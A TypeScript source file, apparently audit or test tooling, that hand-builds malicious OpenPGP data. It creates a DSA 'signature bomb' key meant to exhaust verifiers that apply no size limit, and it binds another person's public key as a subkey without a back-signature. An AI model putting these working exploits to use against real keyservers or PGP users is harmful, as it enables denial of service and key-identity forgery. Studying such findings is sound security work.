import * as openpgp from 'openpgp';
import { createHash, randomBytes } from 'node:crypto';

/**
 * Hand-built OpenPGP packets for the key-parsing attacks (a DSA signature bomb): a v4 DSA key with huge
 * random parameters and a self-certification whose hash prefix is correct, so that a verifier which does
 * not apply a size policy first goes on to the (BigInt) DSA arithmetic.
 */
function mpi(bits: number): Buffer {
  const bytes = randomBytes(Math.ceil(bits / 8));
  bytes[0] |= 0x80;
  const length = Buffer.alloc(2);
  length.writeUInt16BE(bits);
  return Buffer.concat([length, bytes]);
}

function packet(tag: number, body: Buffer): Buffer {
  // New-format header with a five-octet length.
  const header = Buffer.alloc(6);
  header[0] = 0xc0 | tag;
  header[1] = 0xff;
  header.writeUInt32BE(body.length, 2);
  return Buffer.concat([header, body]);
}

function armor(data: Buffer): string {
  const lines = data.toString('base64').match(/.{1,64}/g) ?? [];
  return `-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n${lines.join('\n')}\n-----END PGP PUBLIC KEY BLOCK-----\n`;
}

/** A DSA key of `bits`-bit p, q, g, y with one self-certification of `email`; `signatures` copies of it. */
export function dsaSignatureBomb(bits: number, email: string, signatures = 1, qBits = bits): string {
  const created = Buffer.alloc(4);
  created.writeUInt32BE(Math.floor(Date.UTC(2024, 0, 1) / 1000));
  const keyBody = Buffer.concat([Buffer.from([4]), created, Buffer.from([17]), mpi(bits), mpi(qBits), mpi(bits), mpi(bits)]);
  const uid = Buffer.from(`Bomb <${email}>`, 'utf8');
  const hashedSubpackets = Buffer.concat([Buffer.from([5, 2]), created]);
  const sigHead = Buffer.concat([Buffer.from([4, 0x13, 17, 8]), u16(hashedSubpackets.length), hashedSubpackets]);
  const keyId = createHash('sha1')
    .update(Buffer.concat([Buffer.from([0x99]), u16(keyBody.length), keyBody]))
    .digest()
    .subarray(12);
  const digest = createHash('sha256')
    .update(Buffer.concat([Buffer.from([0x99]), u16(keyBody.length), keyBody]))
    .update(Buffer.concat([Buffer.from([0xb4]), u32(uid.length), uid]))
    .update(sigHead)
    .update(Buffer.concat([Buffer.from([4, 0xff]), u32(sigHead.length)]))
    .digest();
  const unhashed = Buffer.concat([Buffer.from([9, 16]), keyId]);
  const signature = Buffer.concat([sigHead, u16(unhashed.length), unhashed, digest.subarray(0, 2), mpi(qBits), mpi(qBits)]);
  const signaturePackets = Array.from({ length: signatures }, () => packet(2, signature));
  return armor(Buffer.concat([packet(6, keyBody), packet(13, uid), ...signaturePackets]));
}

function u16(value: number): Buffer {
  const buffer = Buffer.alloc(2);
  buffer.writeUInt16BE(value);
  return buffer;
}

function u32(value: number): Buffer {
  const buffer = Buffer.alloc(4);
  buffer.writeUInt32BE(value);
  return buffer;
}

/**
 * Finding 6: `stolen` (someone else's public key) re-tagged as a subkey of `own` and bound to it with `flags`
 * by `own`'s primary key, which needs none of the victim's secrets; no back-signature. Returns `own`'s
 * public key carrying that one subkey.
 */
export async function bindStolenSubkey(
  own: { privateKey: openpgp.PrivateKey; publicKey: openpgp.PublicKey },
  stolen: openpgp.PublicKey,
  flags: number,
  date = new Date(),
): Promise<openpgp.PublicKey> {
  const subkeyPacket = new openpgp.PublicSubkeyPacket();
  subkeyPacket.read(stolen.keyPacket.write());
  const primary = own.privateKey.keyPacket as openpgp.SecretKeyPacket;
  const binding = new openpgp.SignaturePacket();
  binding.signatureType = openpgp.enums.signature.subkeyBinding;
  binding.publicKeyAlgorithm = primary.algorithm;
  binding.hashAlgorithm = openpgp.enums.hash.sha256;
  binding.keyFlags = new Uint8Array([flags]);
  await (binding as unknown as { sign(key: unknown, data: unknown, date: Date, detached: boolean, config: openpgp.Config): Promise<void> }).sign(
    primary,
    { key: primary, bind: subkeyPacket },
    date,
    false,
    openpgp.config,
  );
  const forged = own.publicKey;
  const subkey = new openpgp.Subkey(subkeyPacket, forged);
  subkey.bindingSignatures = [binding];
  forged.subkeys = [subkey];
  return forged;
}
